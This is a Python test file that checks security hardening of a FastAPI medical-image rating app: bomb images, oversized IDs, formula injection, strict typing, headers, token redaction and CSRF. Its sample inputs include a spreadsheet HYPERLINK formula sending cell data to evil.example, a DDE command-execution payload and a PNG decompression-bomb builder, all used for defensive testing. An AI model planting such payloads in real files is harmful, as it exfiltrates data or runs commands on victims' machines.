"""Issue #12, in process: each probe that once got a 500, a silent acceptance or a leak now
gets a clear 4xx (or is neutralised), and nothing is stored. The memory-bounded rows (ZIP
bomb, chunked 530 MiB body) run against a live server in test_hardening_memory.py."""

from __future__ import annotations

import io
import logging
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import torch
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session, sessionmaker

from app.config import Settings
from app.main import create_app
from app.middleware import RedactTokens
from app.models import Checkpoint, Image, Rating, Study, Trial, User
from tests.app.fixtures_ml import checkpoint_bytes, dicom_bytes, jpeg_bytes, zip_bytes
from tests.factories import make_open_study, rating_payload

HUGE = "99999999999999999999999"  # > 2^63 - 1: once an OverflowError (500) in the driver
INT4_OVER = str(2**31)  # fits SQLite, not PostgreSQL's INTEGER: once "out of range" (500)
SECURITY_HEADERS = (
    "content-security-policy",
    "x-content-type-options",
    "referrer-policy",
    "cache-control",
    "x-frame-options",
)


def _count(db: Session, model: Any) -> int:
    return int(db.scalar(select(func.count()).select_from(model)) or 0)


def _png_header_only(width: int, height: int) -> bytes:
    """A valid PNG signature + IHDR declaring width×height, a token IDAT, IEND (a few bytes)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.fixture()
def staff(make_user: Callable[..., User], api_headers: Callable[[User], dict[str, str]]) -> Any:
    return api_headers(make_user("researcher", username="hardening-staff"))


def _upload(client: TestClient, headers: dict[str, str], name: str, data: bytes) -> Any:
    files = [("files", (name, io.BytesIO(data), "application/octet-stream"))]
    return client.post("/api/v1/images", files=files, headers=headers)


# ------------------------------------------------------------------ row 1: decompression bomb
def test_png_declaring_50000_by_50000_pixels_is_refused_before_decoding(
    client: TestClient, staff: dict[str, str], db: Session, settings: Settings
) -> None:
    bomb = _png_header_only(50_000, 50_000)
    assert len(bomb) < 600
    r = _upload(client, staff, "bomb.png", bomb)
    assert r.status_code == 422, r.text
    body = r.json()
    assert "nothing was stored" in body["detail"]
    assert (
        "bomb.png: 50000×50000 = 2,500,000,000 pixels is above the limit of 50,000,000 pixels"
        in body["detail"]
    )
    assert _count(db, Image) == 0
    assert not (settings.data_dir / "images").exists()


def test_pixel_limit_applies_to_png_jpeg_and_dicom_before_decoding(
    client: TestClient, staff: dict[str, str], db: Session, settings: Settings
) -> None:
    settings.max_image_pixels = 1000  # the app reads its settings object per request
    small = _png_header_only(40, 40)  # 1,600 pixels: over this limit, under the default
    r = _upload(client, staff, "small.png", small)
    assert r.status_code == 422
    assert "40×40 = 1,600 pixels is above the limit of 1,000 pixels" in r.json()["detail"]
    r = _upload(client, staff, "small.jpg", jpeg_bytes(40))
    assert r.status_code == 422
    assert "40×40 = 1,600 pixels is above the limit of 1,000 pixels" in r.json()["detail"]
    dcm = dicom_bytes("CT_small.dcm")
    r = _upload(client, staff, "ct.dcm", dcm)
    assert r.status_code == 422
    assert "frames" in r.json()["detail"] and "limit of 1,000 pixels" in r.json()["detail"]
    r = _upload(client, staff, "in.zip", zip_bytes({"a.png": small}))
    assert r.status_code == 422 and "limit of 1,000 pixels" in r.json()["detail"]
    assert _count(db, Image) == 0


# ------------------------------------------------------------------ row 2: ids beyond BIGINT
@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("GET", f"/api/v1/studies/{HUGE}"),
        ("PATCH", f"/api/v1/studies/{HUGE}"),
        ("POST", f"/api/v1/studies/{HUGE}/close"),
        ("POST", f"/api/v1/studies/{HUGE}/open"),
        ("GET", f"/api/v1/studies/{HUGE}/export"),
        ("GET", f"/api/v1/studies/{HUGE}/progress"),
        ("GET", f"/api/v1/jobs/{HUGE}"),
        ("GET", f"/api/v1/checkpoints/{HUGE}"),
        ("GET", f"/api/v1/images/{HUGE}"),
        ("POST", f"/api/v1/users/{HUGE}/deactivate"),
        ("GET", f"/images/{HUGE}/display.png"),
        ("GET", f"/studies/{HUGE}"),
        ("GET", f"/api/v1/images/{INT4_OVER}"),
        ("POST", f"/api/v1/users/{INT4_OVER}/invite"),
    ],
)
def test_ids_beyond_the_database_range_are_422_not_500(
    client: TestClient,
    make_user: Callable[..., User],
    api_headers: Callable[[User], dict[str, str]],
    method: str,
    url: str,
) -> None:
    admin = api_headers(make_user("admin", username="hardening-admin"))
    r = client.request(
        method, url, headers={**admin, "Accept": "application/json"}, json={"name": "x"}
    )
    assert r.status_code == 422, (url, r.status_code, r.text)
    assert r.json()["code"] == "invalid"
    assert any("less than or equal" in e["msg"] for e in r.json()["errors"])


def test_rater_routes_and_body_ids_are_bounded_too(
    client: TestClient,
    make_user: Callable[..., User],
    login: Callable[[User], Any],
    staff: dict[str, str],
    db: Session,
) -> None:
    r = client.post(
        "/api/v1/studies",
        headers=staff,
        json={
            "name": "overflow",
            "image_ids": [2**64],
            "arms": [{"checkpoint_id": 2**70}, {"checkpoint_id": 1}],
            "raters": ["x"],
            "seed": 1,
        },
    )
    assert r.status_code == 422 and r.json()["code"] == "invalid"
    assert _count(db, Study) == 0
    login(make_user("rater", username="hardening-rater"))
    assert client.get(f"/rate/{HUGE}", follow_redirects=False).status_code == 422
    assert client.get(f"/api/v1/trials/next?study_id={HUGE}").status_code == 422


# ------------------------------------------------------------------ row 5: formula injection
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def test_csv_exports_neutralise_formulas_and_json_keeps_the_text(
    client: TestClient,
    db: Session,
    settings: Settings,
    make_user: Callable[..., User],
    login: Callable[[User], Any],
    staff: dict[str, str],
) -> None:
    rater = make_user("rater", username="formula")
    study = make_open_study(db, settings.data_dir, raters=[rater], n_images=3, size=32)
    me = login(rater)
    trials = db.scalars(
        select(Trial).where(Trial.study_id == study.id).order_by(Trial.position)
    ).all()
    for trial, comment in zip(trials, FORMULAS, strict=True):
        r = me.post_json(f"/api/v1/trials/{trial.token}/rating", rating_payload(comment=comment))
        assert r.status_code == 200, r.text
    client.cookies.clear()
    url = f"/api/v1/studies/{study.id}/export"
    wide = client.get(url, params={"format": "wide"}, headers=staff)
    assert wide.status_code == 200
    comments = set(pd.read_csv(io.BytesIO(wide.content))["Comment"].dropna())
    assert comments == {"'" + c for c in FORMULAS}
    for fmt in ("csv", "wide", "mrmc"):
        text = client.get(url, params={"format": fmt}, headers=staff).text
        for line in text.splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@", "\t", "\r")), (fmt, cell)
    raw = client.get(url, params={"format": "json"}, headers=staff).json()
    exact = {t["rating"]["comment"] for t in raw["trials"] if t["rating"]}
    assert exact == set(FORMULAS)


# ------------------------------------------------------------------ row 6: strict request types
@pytest.mark.parametrize(
    "change",
    [
        {"left_score": True},
        {"left_score": "3"},
        {"right_score": 4.0},
        {"active_ms": "100"},
        {"left_score": 2**31},
    ],
)
def test_scores_must_be_json_integers(
    db: Session,
    settings: Settings,
    make_user: Callable[..., User],
    login: Callable[[User], Any],
    change: dict[str, Any],
) -> None:
    rater = make_user("rater", username="strict")
    study = make_open_study(db, settings.data_dir, raters=[rater], n_images=1, size=32)
    trial = db.scalars(select(Trial).where(Trial.study_id == study.id)).first()
    assert trial is not None
    r = login(rater).post_json(f"/api/v1/trials/{trial.token}/rating", rating_payload(**change))
    assert r.status_code == 422, r.text
    assert r.json()["code"] == "invalid"
    field = next(iter(change))
    assert any(e["loc"][-1] == field for e in r.json()["errors"])
    assert _count(db, Rating) == 0


def test_study_spec_refuses_bool_and_numeric_strings(
    client: TestClient, staff: dict[str, str], db: Session
) -> None:
    base = {
        "name": "strict",
        "image_ids": [1],
        "arms": [{"checkpoint_id": 1}, {"checkpoint_id": 2}],
        "raters": ["x"],
        "seed": 1,
    }
    for bad in ({"seed": "1"}, {"seed": True}, {"image_ids": ["1"]}, {"allow_back": "yes"}):
        r = client.post("/api/v1/studies", headers=staff, json={**base, **bad})
        assert r.status_code == 422, (bad, r.text)
    assert _count(db, Study) == 0


# ------------------------------------------------------------------ row 7: headers on a 500
def test_an_internal_error_still_carries_the_security_headers(app: FastAPI) -> None:
    def boom() -> None:
        raise RuntimeError("simulated bug")

    app.add_api_route("/api/v1/_test_boom", boom, methods=["GET"])
    app.add_api_route("/_test_boom_page", boom, methods=["GET"])
    with TestClient(app, raise_server_exceptions=False) as client:
        for url in ("/api/v1/_test_boom", "/_test_boom_page"):
            r = client.get(url)
            assert r.status_code == 500
            for header in SECURITY_HEADERS:
                assert header in r.headers, (url, header)
            assert r.headers["cache-control"] == "no-store"
            assert "simulated bug" not in r.text
        api = client.get("/api/v1/_test_boom").json()
        assert api == {"detail": "Something went wrong on our side.", "code": "internal"}


# ------------------------------------------------------------------ row 8: checkpoint bounds
@pytest.mark.parametrize(
    ("change", "needle"),
    [
        ({"image_size": 100_000}, "image_size must be a whole number from 8 to 2048"),
        ({"in_channels": 64}, "in_channels must be a whole number from 1 to 3"),
        ({"image_size": True}, "image_size must be a whole number"),
        (
            {"num_classes": 5000, "class_names": [f"c{i}" for i in range(5000)]},
            "num_classes must be a whole number from 1 to 1000",
        ),
    ],
)
def test_checkpoint_metadata_out_of_bounds_is_refused(
    client: TestClient,
    staff: dict[str, str],
    db: Session,
    tmp_path: Path,
    settings: Settings,
    change: dict[str, Any],
    needle: str,
) -> None:
    obj = torch.load(io.BytesIO(checkpoint_bytes(tmp_path)), weights_only=True)
    obj.update(change)
    buf = io.BytesIO()
    torch.save(obj, buf)
    files = {"file": ("big.pt", io.BytesIO(buf.getvalue()), "application/octet-stream")}
    r = client.post("/api/v1/checkpoints", files=files, data={"name": "big"}, headers=staff)
    assert r.status_code == 422, r.text
    assert needle in r.json()["detail"]
    assert _count(db, Checkpoint) == 0
    assert not (settings.data_dir / "checkpoints").exists()


# ------------------------------------------------------------------ row 9: HSTS behind a proxy
@pytest.fixture()
def proxied_client(
    settings: Settings, engine: Engine, session_factory: sessionmaker[Session]
) -> Iterator[TestClient]:
    application = create_app(
        settings.model_copy(update={"trust_proxy": True}),
        engine=engine,
        migrate=False,
        start_worker=False,
    )
    application.state.sessionmaker = session_factory
    with TestClient(application) as c:
        yield c


def test_hsts_only_for_https_that_the_server_may_believe(
    client: TestClient, proxied_client: TestClient
) -> None:
    forwarded = {"X-Forwarded-Proto": "https"}
    # Untrusted header (RADSAL_TRUST_PROXY off): any client could send it.
    assert "strict-transport-security" not in client.get("/login", headers=forwarded).headers
    assert "strict-transport-security" not in proxied_client.get("/login").headers
    r = proxied_client.get("/login", headers=forwarded)
    assert r.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
    assert (
        "strict-transport-security"
        in proxied_client.get("/api/v1/nowhere", headers=forwarded).headers
    )
    with TestClient(client.app, base_url="https://testserver") as tls:
        assert "strict-transport-security" in tls.get("/login").headers


# ------------------------------------------------------------------ row 10: invite tokens in logs
def test_access_log_lines_never_carry_an_invite_token(caplog: pytest.LogCaptureFixture) -> None:
    token = "S3cr3t-invite-token_abcdefghijklmnopqrstuvwxyz"
    access = logging.getLogger("uvicorn.access")
    added = RedactTokens()
    access.addFilter(added)  # what create_app installs; attached here for a bare logger
    try:
        with caplog.at_level(logging.INFO, logger="uvicorn.access"):
            access.info(
                '%s - "%s %s HTTP/%s" %d', "10.0.0.1:5000", "GET", f"/invite/{token}", "1.1", 200
            )
            access.info(
                '%s - "%s %s HTTP/%s" %d',
                "10.0.0.1:5000",
                "POST",
                f"/invite/{token}?x=1",
                "1.1",
                303,
            )
    finally:
        access.removeFilter(added)
    assert token not in caplog.text
    assert caplog.text.count("/invite/[redacted]") == 2


def test_the_app_installs_the_redaction_filter(app: FastAPI) -> None:
    for name in ("uvicorn.access", "radsal"):
        assert any(isinstance(f, RedactTokens) for f in logging.getLogger(name).filters)


# ------------------------------------------------------------------ row 11: anonymous API POST
@pytest.mark.parametrize(
    "url", ["/api/v1/studies", "/api/v1/images", "/api/v1/studies/1/close", "/api/v1/users"]
)
def test_anonymous_api_posts_get_401(client: TestClient, url: str, db: Session) -> None:
    before = _count(db, Study)
    r = client.post(url, json={})
    assert r.status_code == 401, r.text
    assert r.json() == {"detail": "Please log in.", "code": "unauthorized"}
    assert r.headers["www-authenticate"] == "Bearer"
    # With the anonymous CSRF cookie and header too (a real browser's anonymous post).
    csrf = client.cookies.get("radsal_csrf") or ""
    r = client.post(url, json={}, headers={"X-CSRF-Token": csrf})
    assert r.status_code == 401
    assert _count(db, Study) == before


def test_logged_in_form_post_without_csrf_is_still_403(
    make_user: Callable[..., User], login: Callable[[User], Any], client: TestClient
) -> None:
    login(make_user("researcher", username="csrf-check"))
    r = client.post("/api/v1/studies", json={})
    assert r.status_code == 403
    assert "did not come from this site" in r.json()["detail"]


# ------------------------------------------------------------------ row 12: closed study files
def test_map_images_are_not_served_after_the_study_closes(
    db: Session, settings: Settings, make_user: Callable[..., User], login: Callable[[User], Any]
) -> None:
    rater = make_user("rater", username="closer")
    study = make_open_study(db, settings.data_dir, raters=[rater], n_images=1, size=32)
    trial = db.scalars(select(Trial).where(Trial.study_id == study.id)).first()
    assert trial is not None
    me = login(rater)
    urls = [f"/t/{trial.token}/{s}" for s in ("image.png", "view/source", "view/a", "view/b")]
    for url in urls:
        assert me.client.get(url).status_code == 200, url
    study.status = "closed"
    db.flush()
    for url in urls:
        r = me.client.get(url, headers={"Accept": "application/json"})
        assert r.status_code == 409, url
        assert r.json()["detail"] == "This study is closed; its images are no longer shown."
        assert r.headers["content-type"].startswith("application/json")
